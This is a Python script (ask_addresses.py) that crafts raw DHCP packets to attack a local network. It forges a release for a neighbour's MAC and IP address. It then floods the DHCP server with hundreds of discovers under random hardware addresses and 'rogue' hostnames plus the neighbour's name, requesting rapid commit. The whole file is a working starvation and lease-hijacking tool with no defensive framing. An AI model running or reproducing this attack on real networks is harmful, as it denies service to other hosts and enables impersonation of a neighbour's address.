# Copyright (c) 2026, Bitcoin Cache Machine contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""ask_addresses.py NAME MAC ADDRESS SERVER: give back the address of a neighbour, as root can, and ask for addresses
from many hardware addresses that do not exist, with many names of its own and that of another neighbour."""

import os
import socket
import struct
import sys
import time

link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
link.bind(("eth0", 0))
own = link.getsockname()[4]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ask(hardware, kind, client, name, *more, at=bytes(4)):
    options = [(53, bytes([kind])), (61, client), (12, name), *more]
    body = b"".join(bytes([code, len(value)]) + value for code, value in options) + b"\xff"
    head = struct.pack("!BBBBIHH4s12x16s192xI", 1, 1, 6, 0, 7, 0, 0x8000, at, hardware, 0x63825363)
    udp = struct.pack("!HHHH", 68, 67, 8 + len(head + body), 0) + head + body
    ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    link.send(b"\xff" * 6 + own + b"\x08\x00" + ip + udp)


hardware = bytes.fromhex(sys.argv[2].replace(":", ""))
server = (54, socket.inet_aton(sys.argv[4]))
ask(hardware, 7, bytes([1]) + hardware, b"", server, at=socket.inet_aton(sys.argv[3]))
for number in range(600):
    client, name = os.urandom(8), f"rogue{number}".encode()
    for hardware in (own, b"\x02" + os.urandom(5)):
        ask(hardware, 1, client, name)
        # what the server offers is taken at once
        ask(hardware, 1, client, sys.argv[1].encode(), (80, b""))
    time.sleep(0.002)
